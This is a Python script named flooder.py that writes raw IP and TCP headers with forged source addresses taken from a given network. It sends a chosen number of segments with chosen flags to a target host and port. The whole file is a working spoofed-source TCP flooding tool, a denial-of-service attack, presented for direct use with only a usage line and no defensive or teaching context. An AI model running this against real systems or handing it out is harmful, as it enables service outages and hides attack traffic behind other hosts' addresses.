#!/usr/bin/env python3
"""Sends segments of TCP whose sources are other hosts' addresses.

usage: flooder.py NETWORK TARGET PORT FLAGS COUNT
"""

from __future__ import annotations

import ipaddress
import random
import socket
import struct
import sys

Address = ipaddress.IPv4Address | ipaddress.IPv6Address
#: The hosts of the network that segments seem to come from.
HOSTS = (10, 250)


def main() -> None:
    network, target = ipaddress.ip_network(sys.argv[1]), ipaddress.ip_address(sys.argv[2])
    port, flags, count = map(int, sys.argv[3:])
    family = {4: socket.AF_INET, 6: socket.AF_INET6}[target.version]
    numbers = random.Random(flags)
    with socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for _ in range(count):
            source = network[numbers.randrange(*HOSTS)]
            segment = tcp(source, (target, port), numbers, flags)
            raw.sendto(ip(source, target, len(segment)) + segment, (str(target), 0))


def tcp(source: Address, end: tuple[Address, int], numbers: random.Random, flags: int) -> bytes:
    target, port = end
    ports = (numbers.randrange(1_024, 65_536), port)
    fields = (*ports, numbers.getrandbits(32), numbers.getrandbits(32) if flags & 16 else 0, 5 << 4, flags, 64_000)
    header = struct.pack("!HHIIBBHHH", *fields, 0, 0)
    sums = source.packed + target.packed + struct.pack("!II", len(header), socket.IPPROTO_TCP) + header
    return header[:16] + struct.pack("!H", checksum(sums)) + header[18:]


def ip(source: Address, target: Address, length: int) -> bytes:
    """The header; the kernel fills the checksum of IPv4."""
    if source.version == 6:
        return struct.pack("!IHBB", 6 << 28, length, socket.IPPROTO_TCP, 64) + source.packed + target.packed
    fields = (0x45, 0, 20 + length, 0, 0, 64, socket.IPPROTO_TCP, 0)
    return struct.pack("!BBHHHBBH", *fields) + source.packed + target.packed


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


if __name__ == "__main__":
    main()
